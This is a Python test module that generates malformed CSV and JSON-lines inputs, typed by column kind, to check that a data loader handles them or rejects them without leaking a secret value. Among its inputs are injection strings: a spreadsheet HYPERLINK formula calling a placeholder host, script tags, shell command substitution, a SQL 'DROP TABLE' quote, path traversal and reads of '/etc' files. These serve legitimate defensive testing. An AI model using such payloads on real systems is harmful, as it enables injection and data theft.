"""Odd cells, by what their column is to a step; csv and lines of JSON."""

import csv
import io
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.faults.bad_input import (
    ANY,
    HONEST,
    KEPT,
    READ_OR_HONEST,
    Change,
    Promise,
    rewrite,
)
from tests.field.case import SECRET
from tests.field.loader import Kind, Table

# Stand for a number of a patient: no message may hold them.
DIGITS = "7700779"
INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


@dataclass(frozen=True)
class Cell:
    """An odd cell in place of one that is as it should be.

    Attributes:
        what: a phrase.
        written: of the cell that stood there.
        promise: what is right.
        absent: whether "read" means as if the cell were empty; else as it stood there.
    """

    what: str
    written: Callable[[str], str]
    promise: Promise = HONEST
    absent: bool = False


def _whole(cell: str) -> int:
    return int(float(cell))


WORDS = (
    Cell("words", lambda _: SECRET),
    Cell("a formula", lambda _: f'=HYPERLINK("http://x/{SECRET}")'),
    Cell("words over two lines", lambda _: f"/{SECRET}\n{SECRET}"),
    Cell("true", lambda _: "true"),
    Cell("digits of another script", lambda cell: cell.translate(INDIC)),
    Cell("a sign of thousands", lambda _: "1,234"),
    Cell("an underscore", lambda _: "7700_779"),
    Cell("hexadecimal digits", lambda cell: hex(_whole(cell))),
    Cell("binary digits", lambda cell: bin(_whole(cell))),
    Cell("infinity", lambda _: "infinity"),
    Cell("an infinity with its sign", lambda _: "-inf"),
    Cell("400 digits", lambda _: "9" * 400),
    Cell("NaN", lambda _: "NaN", READ_OR_HONEST, absent=True),
    Cell("NULL", lambda _: "NULL", READ_OR_HONEST, absent=True),
    Cell("a dash", lambda _: "-"),
    Cell("a mark of interrogation", lambda _: "?"),
    Cell("a plus before it", lambda cell: f"+{cell}", READ_OR_HONEST),
    Cell("spaces around it", lambda cell: f" {cell} ", READ_OR_HONEST),
    Cell("a space that does not break", lambda cell: f"\u00a0{cell}", READ_OR_HONEST),
    Cell("an apostrophe before it", lambda cell: f"'{cell}"),
    Cell("in parentheses", lambda cell: f"({cell})"),
    Cell("a second sign", lambda cell: f"--{cell}"),
    Cell("a unit", lambda cell: f"{cell} {SECRET}"),
    Cell("a byte of zero behind it", lambda cell: f"{cell}\0"),
)
ODD: Mapping[Kind, tuple[Cell, ...]] = {
    "integer": (
        *WORDS,
        Cell("a fraction", lambda _: f"{DIGITS}.5"),
        Cell("an exponent", lambda _: f"{DIGITS}e1"),
        Cell("more than 64 bits hold", lambda _: f"{DIGITS}{DIGITS}{DIGITS}"),
        Cell("a minus before it", lambda cell: f"-{cell.lstrip('-')}9"),
        Cell("a whole number as a float", lambda cell: f"{_whole(cell)}.0", READ_OR_HONEST),
        Cell("leading zeros", lambda cell: f"000{cell}", READ_OR_HONEST),
        Cell("nothing", lambda _: ""),
    ),
    "number": (
        *WORDS,
        Cell("a comma for the point", lambda _: f"{DIGITS},5"),
        Cell("two points", lambda _: f"{DIGITS}.5.5"),
        Cell("an exponent without digits", lambda _: f"{DIGITS}e"),
        Cell("a fraction of one character", lambda _: "½"),
        Cell("more than 64 bits hold", lambda _: "1e400"),
        Cell("more than 32 bits hold", lambda _: "1e39"),
    ),
    "time": tuple(
        Cell(what, lambda _, cell=cell: cell)
        for what, cell in {
            "words": SECRET,
            "a formula": f"={SECRET}()",
            "as Excel writes it": "5/1/2150 8:00",
            "of a month 13": "2150-13-01 00:00:00",
            "of February 30": "2150-02-30 00:00:00",
            "of hour 25": "2150-05-01 25:00:00",
            "of second 61": "2150-05-01 08:00:61",
            "of a year of two digits": "50-05-01",
            "of a year of six digits": "215000-05-01 08:00:00",
            "a number of days": "45292.5",
            "seconds since 1970": DIGITS + "999",
            "the word now": "now",
            "the word today": "today",
            "the word epoch": "epoch",
            "the word infinity": "infinity",
            "zeros": "0000-00-00 00:00:00",
            "before Christ": "2150-05-01 (BC) 08:00:00",
            "in words": "1 May 2150",
            "with half a zone": "2150-05-01 08:00:00+",
            "digits of another script": "2150-05-01".translate(INDIC),
        }.items()
    ),
    "category": tuple(
        Cell(what, lambda _, cell=cell: cell, ANY)
        for what, cell in {
            "words": SECRET,
            "a formula": f'=HYPERLINK("http://x/{SECRET}")',
            "digits": DIGITS,
            "markup": f"<script>{SECRET}</script>",
            "a command": f"$({SECRET}) `{SECRET}`",
            "a path": f"../../{SECRET}",
            "a quote of SQL": f"'; DROP TABLE {SECRET}; --",
            "words over two lines": f"/{SECRET}\n{SECRET}",
            "200,000 characters": SECRET * 20_000,
            "a letter that combines": f"{SECRET}\u0301",
            "letters from right to left": f"\u202e{SECRET}",
        }.items()
    ),
    "text": tuple(
        Cell(what, lambda _, cell=cell: cell, KEPT)
        for what, cell in {
            "a formula": f'=HYPERLINK("http://x/{SECRET}")',
            "markup": f"<script>alert('{SECRET}')</script>",
            "a command": f"$({SECRET}) `{SECRET}`",
            "a quote of SQL": f"'; DROP TABLE {SECRET}; --",
            "quotes": f'he said "{SECRET}", twice',
            "lines": f"{SECRET}\n\n{SECRET}",
            "ends of lines of Unicode": f"{SECRET}\u2028{SECRET}\u0085{SECRET}",
            "signs beyond 16 bits": f"{SECRET} \U0001f600\U00020000",
            "letters from right to left": f"\u202e{SECRET}",
            "backslashes": rf"\n\x41\u0041 {SECRET}",
            "200,000 characters": SECRET * 20_000,
            "braces": f"{{{SECRET}}} {{{{0}}}} %s",
        }.items()
    ),
    "path": tuple(
        Cell(what, lambda _, cell=cell: cell)
        for what, cell in {
            "words": SECRET,
            "a path that leads up": f"../{SECRET}.jpg",
            "a path that leads down and up": f"a/../../../{SECRET}.jpg",
            "an absolute path": f"/etc/{SECRET}",
            "a file of the system": "/etc/hostname",
            "a device": "/dev/zero",
            "a folder of the user": f"~/{SECRET}.jpg",
            "a path of Windows": f"C:\\{SECRET}\\a.jpg",
            "an address": f"http://localhost/{SECRET}.jpg",
            "an address of a file": f"file:///etc/{SECRET}",
            "5,000 characters": SECRET * 500,
            "a folder": ".",
            "a byte of zero": f"{SECRET}\0.jpg",
            "a line end": f"{SECRET}\n.jpg",
            "a pattern": "*.jpg",
            "a command": f"$({SECRET}).jpg",
        }.items()
    ),
}
OTHER = Cell("words", lambda _: SECRET, ANY)


def of_cells(table: Table) -> Iterator[Change]:
    """Every odd cell in the first column of a kind, and words in each of the others."""
    for name, kind in table.columns.items():
        words = OTHER if kind == "other" else ODD[kind][0]
        for cell in ODD[kind] if name in table.tried else (words,):
            yield _changed(table, name, kind, cell)


def _changed(table: Table, name: str, kind: Kind, cell: Cell) -> Change:
    place = list(table.columns).index(name)

    def put(written: Callable[[str], str]) -> Callable[[Path], object]:
        return rewrite(lambda raw: _with_cell(raw, int(table.named), place, written))

    family = "other columns" if kind == "other" else f"cells of {kind} columns"
    text = cell.written("") if kind == "text" else None
    meant = put(lambda _: "") if cell.absent else None
    return Change(family, f"{name}: {cell.what}", cell.promise, put(cell.written), meant, text)


def _with_cell(raw: bytes, first: int, place: int, written: Callable[[str], str]) -> bytes:
    """A csv file with another cell in the first row that has one there."""
    rows = list(csv.reader(io.StringIO(raw.decode(), newline="")))
    row = next((row for row in rows[first:] if row[place]), rows[first])
    row[place] = written(row[place] or "1")
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()


# Values of JSON, by the kind of a column; those that stand for nothing are read as absent.
VALUES: dict[str, Any] = {
    "a text": SECRET,
    "digits in text": DIGITS,
    "a number": int(DIGITS),
    "a fraction": float(f"{DIGITS}.5"),
    "a negative number": -5,
    "a huge number": 10**400,
    "infinity": float("inf"),
    "true": True,
    "a list": [SECRET],
    "a list of numbers": [int(DIGITS)],
    "an object": {SECRET: [SECRET]},
    "addresses": [f"https://{SECRET}/a.jpg"],
    "paths": [f"../{SECRET}.jpg"],
}
ALLOWED: Mapping[Kind, set[str]] = {
    "integer": {"a number"},
    "flag": {"true"},
    "category": {"a text", "digits in text"},
    "text": {"a text", "digits in text"},
    "path": {"addresses"},
}


def of_values(table: Table) -> Iterator[Change]:
    """A value of every type of JSON in one key after the other of the first line."""
    for name, kind in table.columns.items():
        for what, value in VALUES.items():
            allowed = kind == "other" or what in ALLOWED.get(kind, set())
            family = "other columns" if kind == "other" else f"values of {kind} keys"
            yield Change(
                family,
                f"{name}: {what}",
                ANY if allowed else HONEST,
                rewrite(lambda raw, name=name, value=value: _with_value(raw, name, value)),
            )
        for what, value in {"null": None, "NaN": float("nan"), "an empty text": ""}.items():
            yield Change(
                f"values of {kind} keys",
                f"{name}: {what}",
                READ_OR_HONEST,
                rewrite(lambda raw, name=name, value=value: _with_value(raw, name, value)),
                rewrite(lambda raw, name=name: _with_value(raw, name)),
            )


def _with_value(raw: bytes, name: str, *value: Any) -> bytes:
    """Lines of JSON whose first has another value of a key, or none."""
    first, rest = raw.decode().split("\n", 1)
    row = json.loads(first)
    row.pop(name, None)
    line = json.dumps(row | dict(zip([name], value, strict=False)))
    return f"{line}\n{rest}".encode()
